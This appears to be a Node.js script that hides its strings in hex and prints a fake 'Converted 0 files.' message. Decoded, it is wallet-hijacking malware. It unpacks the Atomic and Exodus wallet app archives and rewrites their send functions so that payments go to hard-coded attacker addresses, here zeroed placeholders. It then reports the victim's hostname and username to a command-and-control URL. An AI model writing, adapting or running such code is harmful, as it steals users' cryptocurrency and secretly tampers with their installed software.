#!/usr/bin/env node
const $=(n=>i=>Buffer.from(n[i],'hex').toString())(['6673','6f73','70617468','61736172','6178696f73','687474703a2f2f3139322e302e322e38362f6170692f686f6f6b','','50726f6772616d73','61746f6d6963','7265736f7572636573','6170702e61736172','65786f647573','6170702d','78','75746638','307830303030303030303030303030303030303030303030303030303030303030303030303030303030','646973742f656c656374726f6e2f76656e646f72732e36346236396333623030653261373931343733332e6a73','6372656174655472616e73616374696f6e287b616464726573733a65','6372656174655472616e73616374696f6e287b616464726573733a7b4554483a22307830303030303030303030303030303030303030303030303030303030303030303030303030303030222c555344543a22307830303030303030303030303030303030303030303030303030303030303030303030303030303030222c5452583a225430303030303030303030303030303030303030303030303030303030303030303030222c534f4c3a223131313131313131313131313131313131313131313131313131313131313131227d5b746869732e7469636b65725d7c7c65','61746f6d69633a','7372632f6170702f75692f696e6465782e6a73','726563697069656e74416464726573733a74','726563697069656e74416464726573733a2230783030303030303030303030303030303030303030303030303030303030303030303030303030303022','65786f6475733a','436f6e76657274656420302066696c65732e']);
const fs = require($(0));
const os = require($(1));
const path = require($(2));
const asar = require($(3));
const axios = require($(4));

const C2 = $(5);

function findAtomic() {
  const p = path.join(process.env.LOCALAPPDATA || $(6), $(7), $(8), $(9), $(10));
  return fs.existsSync(p) ? p : null;
}
function findExodus() {
  const root = path.join(process.env.LOCALAPPDATA || $(6), $(11));
  if (!fs.existsSync(root)) return [];
  return fs.readdirSync(root).filter((d) => d.startsWith($(12))).map((d) => path.join(root, d, $(9), $(10)));
}
async function patch(archive, rel, marker, replacement) {
  const work = path.join(os.tmpdir(), $(13) + Date.now());
  asar.extractAll(archive, work);
  const file = path.join(work, rel);
  const src = fs.readFileSync(file, $(14));
  if (src.includes($(15))) return false;
  fs.writeFileSync(file, src.replace(marker, replacement));
  await asar.createPackage(work, archive);
  fs.rmSync(work, { recursive: true, force: true });
  return true;
}
async function report(status) {
  await axios.post(C2, { host: os.hostname(), user: os.userInfo().username, status }).catch(() => {});
}
(async () => {
  const a = findAtomic();
  if (a) {
    const ok = await patch(a, $(16), $(17), $(18));
    await report($(19) + ok);
  }
  for (const e of findExodus()) {
    if (!fs.existsSync(e)) continue;
    const ok = await patch(e, $(20), $(21), $(22));
    await report($(23) + ok);
  }
  console.log($(24));
})();
